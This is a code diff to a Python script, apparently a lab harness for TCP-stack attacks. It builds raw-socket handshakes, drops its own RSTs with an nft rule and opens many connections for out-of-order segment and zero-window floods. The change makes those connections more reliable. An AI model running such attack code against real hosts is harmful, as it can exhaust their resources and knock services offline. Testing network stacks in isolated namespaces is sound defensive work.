@@ -70,6 +70,10 @@ def ooo(a):
     subprocess.run(["nft", f"add rule inet rtattack out tcp sport {a.sport}-{last} "
                     "tcp flags rst drop"], check=True)
     raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
+    # The raw socket gets a copy of every TCP packet into the namespace, the
+    # zerowin attack's flood among them: room for them, so that a SYN-ACK is
+    # not dropped behind them (it once left 6 of 50 connections unmade).
+    raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
     conns = {}  # sport -> [iss, their next seq]
     try:
         for i in range(a.conns):
@@ -91,16 +95,20 @@ def ooo(a):
             r, _, _ = select.select([raw], [], [], 0.2)
             if not r:
                 continue
-            pkt = raw.recv(65535)
-            ihl = (pkt[0] & 15) * 4
-            sp, dp, seq, ack, _off, flags = struct.unpack("!HHIIBB", pkt[ihl:ihl + 14])
-            if sp != a.port or dp not in conns or (flags & (SYN | ACK)) != (SYN | ACK):
-                continue
-            c = conns[dp]
-            if c[1] is None and ack == (c[0] + 1) & 0xFFFFFFFF:
-                c[1] = (seq + 1) & 0xFFFFFFFF
-                raw.sendto(tcp_segment(src, a.dst, dp, a.port, c[0] + 1, c[1], ACK),
-                           (a.dst, 0))
+            while True:  # every packet waiting, not one per wake-up
+                try:
+                    pkt = raw.recv(65535, socket.MSG_DONTWAIT)
+                except BlockingIOError:
+                    break
+                ihl = (pkt[0] & 15) * 4
+                sp, dp, seq, ack, _off, flags = struct.unpack("!HHIIBB", pkt[ihl:ihl + 14])
+                if sp != a.port or dp not in conns or (flags & (SYN | ACK)) != (SYN | ACK):
+                    continue
+                c = conns[dp]
+                if c[1] is None and ack == (c[0] + 1) & 0xFFFFFFFF:
+                    c[1] = (seq + 1) & 0xFFFFFFFF
+                    raw.sendto(tcp_segment(src, a.dst, dp, a.port, c[0] + 1, c[1], ACK),
+                               (a.dst, 0))
         est = [p for p, v in conns.items() if v[1] is not None]
         sent = 0
         for k in range(a.segs):
